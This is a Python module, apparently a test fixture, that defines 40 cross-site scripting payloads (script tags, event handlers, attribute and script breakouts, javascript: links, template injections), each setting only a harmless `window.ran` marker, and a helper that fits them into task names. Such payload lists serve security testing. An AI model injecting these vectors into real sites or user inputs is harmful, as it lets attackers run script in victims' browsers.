"""Scripts in stored texts: 40 payloads that run in a page that treats text as markup or code.

Each payload sets `window.ran`, and nothing else. `in_name` is the form of a payload for names of
tasks and schedules, which have no spaces and at most 200 characters.
"""

from __future__ import annotations

import re
from typing import Final

_RUN: Final = "window.ran=1"
_CODED: Final = "".join(f"&#{ord(letter)};" for letter in _RUN)

PAYLOADS: Final = (
    # Elements
    f"<script>{_RUN}</script>",
    f"<ScRiPt>{_RUN}</sCrIpT>",
    f"<script type=module>{_RUN}</script>",
    f"<script/x>{_RUN}</script>",
    f"<<script>{_RUN}</script>",
    f"<script src='data:text/javascript,{_RUN}'></script>",
    f"<scr<script>ipt>{_RUN}</scr</script>ipt><script>{_RUN}</script>",
    # Handlers
    f"<img src=x onerror={_RUN}>",
    f'<img src="x" onerror="{_CODED}">',
    f"<img src=x onerror=\n{_RUN}>",
    f"<svg onload={_RUN}>",
    f"<svg><script>{_RUN}</script></svg>",
    f"<svg><animate onbegin={_RUN} attributeName=x dur=1s>",
    f"<body onload={_RUN}>",
    f"<details open ontoggle={_RUN}>x</details>",
    f"<video><source onerror={_RUN}></video>",
    f"<audio src=x onerror={_RUN}>",
    f"<input autofocus onfocus={_RUN}>",
    f"<style onload={_RUN}></style>",
    f'<iframe srcdoc="<script>parent.{_RUN}</script>"></iframe>',
    f"<object data=x onerror={_RUN}></object>",
    f"<link rel=stylesheet href=data:text/css, onload={_RUN}>",
    # Out of an attribute or of another element
    f'"><script>{_RUN}</script>',
    f"'><script>{_RUN}</script>",
    f'" autofocus onfocus="{_RUN}" x="',
    f"' autofocus onfocus='{_RUN}' x='",
    f'x" onerror="{_RUN}',
    f"</textarea><script>{_RUN}</script>",
    f"</title><script>{_RUN}</script>",
    f"</pre></code><img src=x onerror={_RUN}>",
    f"--><script>{_RUN}</script>",
    f"]]><script>{_RUN}</script>",
    # Out of a script
    f"</script><script>{_RUN}</script>",
    f'";{_RUN};"',
    f"';{_RUN};'",
    f"`;{_RUN};`",
    # Links, and templates of other frameworks
    f"javascript:{_RUN}",
    f'<a href="javascript:{_RUN}" autofocus onfocus="{_RUN}">x</a>',
    "{{constructor.constructor('" + _RUN + "')()}}",
    "${" + _RUN + "}<img src=x onerror=" + _RUN + ">",
)


def in_name(payload: str) -> str:
    return re.sub(r"\s+", "/", payload)[:200]
